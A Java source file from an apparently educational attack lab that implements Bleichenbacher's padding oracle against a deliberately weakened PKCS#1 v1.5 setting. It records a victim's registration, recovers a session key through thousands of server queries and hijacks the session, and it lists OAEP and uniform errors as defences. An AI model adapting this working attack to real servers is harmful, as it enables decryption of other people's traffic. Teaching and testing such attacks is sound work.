package hallpass.attack.catalogue;

import hallpass.attack.Attack;
import hallpass.attack.AttackContext;
import hallpass.attack.AttackDescription;
import hallpass.attack.AttackRefusedException;
import hallpass.attack.AttackerConnection;
import hallpass.attack.BleichenbacherSearch;
import hallpass.attack.BleichenbacherSearch.Oracle;
import hallpass.attack.Defences;
import hallpass.attack.Narration;
import hallpass.attack.Outcome;
import hallpass.attack.PkiUser;
import hallpass.attack.RecordedSession;
import hallpass.attack.SecretNote;
import hallpass.attack.ServerGroups;
import hallpass.config.PemFiles;
import hallpass.config.RealmConfig;
import hallpass.crypto.RsaSealed;
import hallpass.crypto.SymmetricKey;
import hallpass.message.ClientRegistrationRep;
import hallpass.message.ClientRegistrationReq;
import hallpass.message.ClientRegistrationReqPart;
import hallpass.message.ErrorCode;
import hallpass.message.MessageType;
import hallpass.message.Party;
import hallpass.message.PrincipalName;
import hallpass.message.ServerCertificateRep;
import hallpass.pki.RsaKeys;
import hallpass.protocol.Guard;
import hallpass.wire.Bytes;
import java.math.BigInteger;
import java.security.interfaces.RSAPrivateCrtKey;
import java.security.interfaces.RSAPublicKey;
import java.time.Instant;
import java.util.Arrays;
import java.util.HexFormat;
import java.util.List;
import java.util.Locale;
import java.util.Map;
import java.util.Set;

/** Decrypts a recorded P5 by asking the server whether the padding of related blocks is valid. */
public final class C9PaddingOracle implements Attack {
    private static final String VICTIM = "alice";
    /** A divisor of at least this size leaves few queries until the first hit. */
    private static final BigInteger MIN_DIVISOR = BigInteger.valueOf(50);
    /** The search usually needs three or four registrations. */
    private static final int MAX_REGISTRATIONS = 12;

    private static final int BYTES_PER_REPORT = 20;

    private final Map<String, String> weakness;
    private final PaddingOracleSource paddingOracle;

    /**
     * The source of the oracle for the random padding in front of the secret, which has no value of
     * its own.
     */
    private interface PaddingOracleSource {
        /** Asks the server, as for the secret. */
        PaddingOracleSource REMOTE = (server, block, context) -> server;

        /** Answers at once, with the server's private key. */
        PaddingOracleSource LOCAL = (server, block, context) -> {
            RSAPrivateCrtKey key =
                    PemFiles.readPrivateKey(context.lab().folder().serverKey());
            BigInteger n = key.getModulus();
            BigInteger number = block.modPow(key.getPrivateExponent(), n);
            return multiplier ->
                    BleichenbacherSearch.isPadded(number.multiply(multiplier).mod(n), n);
        };

        Oracle oracle(Oracle server, BigInteger block, AttackContext context) throws Exception;
    }

    public C9PaddingOracle() {
        this(Map.of("pki.rsa", "pkcs1-v1_5"), PaddingOracleSource.REMOTE);
    }

    private C9PaddingOracle(Map<String, String> weakness, PaddingOracleSource paddingOracle) {
        this.weakness = weakness;
        this.paddingOracle = paddingOracle;
    }

    @Override
    public AttackDescription description() {
        return new AttackDescription(
                "C9",
                "Bleichenbacher's padding oracle",
                "PKCS#1 v1.5 prepends 00 02 and padding to a message before RSA encryption, and the "
                        + "server sends one error code if a decrypted block does not begin with 00 02 and "
                        + "another if it does. RSA is multiplicative: the attacker multiplies the content of a "
                        + "recorded P5 by a number of their choice, without any key, and asks the server. Each "
                        + "valid padding narrows the range that contains the secret. A few thousand queries "
                        + "later the attacker knows K_tmp2, and no key was stolen.",
                List.of(
                        "record a client's P3 to P7",
                        "send the server some thousand requests",
                        "a realm with pki.rsa = \"pkcs1-v1_5\", a setting for this attack only"),
                List.of(
                        "Bleichenbacher: Chosen Ciphertext Attacks Against RSA PKCS #1 (CRYPTO 1998)",
                        "Bardou and others: Efficient Padding Oracle Attacks (CRYPTO 2012)",
                        "RFC 8017, section 7.2; RFC 3218"),
                Defences.of(Guard.OAEP, "31 app")
                        .and(Guard.UNIFORM_ERRORS, "1009 app")
                        .hardened("1009 app"));
    }

    @Override
    public List<String> remarks() {
        return List.of(
                "uniform-errors hides the code but not the difference in processing: an attacker who "
                        + "can measure it has the oracle back. oaep removes the oracle.",
                "In the matrix, the attack queries the server only about the secret. The padding takes "
                        + "ten times as many queries, which are computed locally; hallpass attack run C9 "
                        + "sends them all.");
    }

    @Override
    public Map<String, String> realmSettings(Set<Guard> guards) {
        return guards.contains(Guard.OAEP) ? Map.of() : weakness;
    }

    @Override
    public Attack quickVariant() {
        return new C9PaddingOracle(weakness, PaddingOracleSource.LOCAL);
    }

    @Override
    public Set<Party> servers() {
        return ServerGroups.PKI;
    }

    @Override
    public List<String> explanation(RealmConfig realm) {
        int block = RsaKeys.KEY_BITS / 8;
        int length = length(realm);
        return List.of(
                String.format(
                        Locale.ROOT,
                        "A block has %d bytes: 00 02, %d of padding, 00, and %d of P5:",
                        block,
                        block - length - 3,
                        length),
                String.format(
                        Locale.ROOT,
                        "%04x K_tmp2, the name, the address, the port, TS5.",
                        realm.sealer().cipherSuite().keySize()),
                "As a number m it begins with 00 02 if 2B <= m < 3B, B = 256^" + (block - 2) + ".",
                "c * s^e mod n decrypts to m*s mod n, for any s that the attacker chooses.",
                "The server answers 41 if that begins with 00 02, and 31 if not.",
                "After a 41, 2B + r*n <= m*s < 3B + r*n for some r, which few m satisfy.",
                "Then s is about doubled, so that the next 41 leaves half of them.");
    }

    /** The length of the encoding that P5 encrypts; only K_tmp2 in it is secret. */
    private static int length(RealmConfig realm) {
        SymmetricKey any =
                SymmetricKey.of("K_tmp2", new byte[realm.sealer().cipherSuite().keySize()]);
        return ClientRegistrationReqPart.PART
                .layout()
                .encode(new ClientRegistrationReqPart(any, new PrincipalName(VICTIM), "127.0.0.1", 1, Instant.EPOCH))
                .length;
    }

    @Override
    public List<NegativeControl> negativeControls() {
        return List.of(new NegativeControl(
                "a realm with the default settings: an attacker cannot make a block with valid OAEP padding",
                new C9PaddingOracle(Map.of(), PaddingOracleSource.REMOTE),
                "31 app"));
    }

    @Override
    public Outcome run(AttackContext context) throws Exception {
        Narration narration = context.narration();
        PkiUser victim = context.pkiUser(VICTIM);
        narration.step("alice registers with the server and stores a note there. The attacker records everything.");
        SecretNote note = victim.storeNote(context);
        RSAPublicKey key =
                RsaKeys.decodePublicKey(context.lastMessage(MessageType.CERTIFICATE_REP, ServerCertificateRep.class)
                        .publicKey());
        try (AttackerConnection connection = context.connect(Party.APP)) {
            OracleServer server = new OracleServer(connection, key);
            narration.step("The attacker sends two P5 of their own: one begins with 00 02, the other with 00 03.");
            ErrorCode right = server.errorFor(block(2).modPow(key.getPublicExponent(), key.getModulus()));
            ErrorCode wrong = server.errorFor(block(3).modPow(key.getPublicExponent(), key.getModulus()));
            narration.verbatim(List.of(
                    "00 02 07 07 07 ...   " + right.number() + " " + right,
                    "00 03 07 07 07 ...   " + wrong.number() + " " + wrong));
            if (right == wrong) {
                return Outcome.refused(
                        right,
                        Party.APP,
                        "the answer is the same whatever a block begins with: " + right.description());
            }
            narration.paragraph("The answers differ: this is the oracle.");
            narration.verbatim(explanation(context.config()));
            return recoverKey(victim, note, new ServerOracle(server, wrong), context);
        }
    }

    private Outcome recoverKey(PkiUser victim, SecretNote note, ServerOracle oracle, AttackContext context)
            throws Exception {
        Narration narration = context.narration();
        int length = length(context.config());
        int padding = RsaKeys.KEY_BITS / 8 - length;
        int keySize = context.sealer().cipherSuite().keySize();
        int end = padding + 2 + keySize;
        SearchTarget target = chooseTarget(victim, note, oracle, context);
        narration.step("The attacker queries the server until the first " + end + " bytes of that block are known.");
        target.search.search(padding, target.paddingOracle);
        target.search.search(end, target.secretOracle);
        byte[] found = target.search.firstBytes(end);
        narration.paragraph("It took " + formatted(target.search.queries()) + " queries. The block:");
        narration.verbatim(List.of(
                HexFormat.of().formatHex(found, 0, 16) + " ... "
                        + HexFormat.of().formatHex(found, padding - 8, padding),
                HexFormat.of().formatHex(found, padding, padding + 2) + "  "
                        + HexFormat.of().formatHex(found, padding + 2, end)));
        SymmetricKey secret = SymmetricKey.of("K_tmp2", Arrays.copyOfRange(found, padding + 2, end));
        return context.attempt(() -> target.session.hijack(secret, note, context));
    }

    /** A recorded session and the search for the content of its P5. */
    private record SearchTarget(
            RecordedSession session, BleichenbacherSearch search, Oracle paddingOracle, Oracle secretOracle) {}

    /** Chooses a recorded P5 that needs few queries: one whose number has a large divisor. */
    private SearchTarget chooseTarget(PkiUser victim, SecretNote note, ServerOracle oracle, AttackContext context)
            throws Exception {
        Narration narration = context.narration();
        narration.step("The attacker searches for divisors of the encrypted number. alice registers "
                + "repeatedly meanwhile.");
        for (int registrations = 1; ; registrations++) {
            RecordedSession session = RecordedSession.last(context);
            BigInteger block = new BigInteger(
                    1, session.registration().registration().ciphertext().toArray());
            Oracle secretOracle = oracle.oracleFor(block);
            Oracle firstOracle = paddingOracle.oracle(secretOracle, block, context);
            BleichenbacherSearch search =
                    new BleichenbacherSearch(oracle.server.key, new ProgressReporter(context)::report);
            BigInteger divisor = search.trim(firstOracle);
            narration.verbatim(List.of(String.format(
                    Locale.ROOT,
                    "P5 number %-2d  %s queries, divisible by %s",
                    registrations,
                    formatted(search.queries()),
                    divisor)));
            if (divisor.compareTo(MIN_DIVISOR) >= 0 || registrations == MAX_REGISTRATIONS) {
                return new SearchTarget(session, search, firstOracle, secretOracle);
            }
            victim.request(note.storeRequest());
        }
    }

    /** The number of a block of 00, the given byte, and sevens. */
    private static BigInteger block(int type) {
        byte[] block = new byte[RsaKeys.KEY_BITS / 8];
        Arrays.fill(block, (byte) 7);
        block[0] = 0;
        block[1] = (byte) type;
        return new BigInteger(1, block);
    }

    private static String formatted(int count) {
        return String.format(Locale.ROOT, "%,d", count);
    }

    /** A server that answers a P5 with an error code. */
    private record OracleServer(AttackerConnection connection, RSAPublicKey key) {
        ErrorCode errorFor(BigInteger number) throws Exception {
            Bytes block = Bytes.of(BleichenbacherSearch.toBlock(number, RsaKeys.KEY_BITS / 8));
            try {
                connection.request(new ClientRegistrationReq(new RsaSealed<>(block)), ClientRegistrationRep.class);
            } catch (AttackRefusedException refused) {
                return refused.error().code();
            }
            throw new IllegalStateException("the server accepted a forged registration");
        }
    }

    /** @param notPadded the server's answer to a block that does not begin with 00 02 */
    private record ServerOracle(OracleServer server, ErrorCode notPadded) {
        Oracle oracleFor(BigInteger block) {
            BigInteger e = server.key.getPublicExponent();
            BigInteger n = server.key.getModulus();
            return multiplier ->
                    server.errorFor(multiplier.modPow(e, n).multiply(block).mod(n)) != notPadded;
        }
    }

    private static final class ProgressReporter {
        private final AttackContext context;
        private int nextReport;

        ProgressReporter(AttackContext context) {
            this.context = context;
        }

        void report(BleichenbacherSearch search) {
            if (search.knownBytes() >= nextReport) {
                nextReport = search.knownBytes() + BYTES_PER_REPORT;
                context.narration()
                        .verbatim(List.of(String.format(
                                Locale.ROOT,
                                "%7s queries  %3d bytes",
                                formatted(search.queries()),
                                search.knownBytes())));
            }
        }
    }
}
